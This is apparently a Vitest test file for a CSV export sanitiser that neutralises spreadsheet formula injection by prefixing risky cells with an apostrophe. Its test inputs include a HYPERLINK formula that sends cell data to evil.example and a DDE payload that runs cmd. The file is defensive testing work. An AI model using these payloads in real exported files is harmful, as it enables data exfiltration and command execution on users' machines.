import { describe, expect, it } from 'vitest';
import { formulaSafeCell, formulaSafeRecord } from './csv.js';

describe('formulaSafeCell', () => {
  it.each(['=HYPERLINK("https://evil.example/?"&A1,"click")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=1'])(
    'neutralises %j',
    (text) => {
      expect(formulaSafeCell(text)).toBe(`'${text}`);
    },
  );

  it('leaves ordinary text, plain numbers and non-strings alone', () => {
    expect(formulaSafeCell('Xen Summit = fun')).toBe('Xen Summit = fun');
    expect(formulaSafeCell('-12')).toBe('-12');
    expect(formulaSafeCell('+3.5')).toBe('+3.5');
    expect(formulaSafeCell(-12)).toBe(-12);
    expect(formulaSafeCell(null)).toBe(null);
    expect(formulaSafeCell(true)).toBe(true);
  });
});

describe('formulaSafeRecord', () => {
  it('neutralises strings at any depth and keeps numbers', () => {
    expect(formulaSafeRecord({ id: 3, amount: -500, title: '=cmd', speakers: [{ name: '@evil' }], address: { city: '+x' } })).toEqual({
      id: 3,
      amount: -500,
      title: "'=cmd",
      speakers: [{ name: "'@evil" }],
      address: { city: "'+x" },
    });
  });
});
